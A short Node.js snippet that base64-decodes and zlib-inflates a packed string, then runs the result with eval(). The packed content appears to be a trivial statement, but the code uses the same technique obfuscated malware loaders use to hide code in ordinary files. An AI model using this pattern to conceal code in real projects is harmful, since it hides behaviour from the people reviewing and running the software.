const zlib = require('zlib');
const packed = 'eJxLzs8rzs9J1cvJT9cw1AQAJSQEmQ==';
const code = zlib.inflateSync(Buffer.from(packed, 'base64')).toString();
eval(code);
